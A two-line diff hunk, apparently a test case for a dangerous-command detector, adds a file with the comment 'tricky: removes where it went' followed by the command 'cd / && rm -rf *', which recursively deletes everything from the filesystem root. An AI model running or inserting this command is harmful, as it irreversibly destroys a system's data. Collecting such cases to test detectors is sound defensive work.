@@ -1,0 +1,2 @@
+# tricky: removes where it went
+cd / && rm -rf *
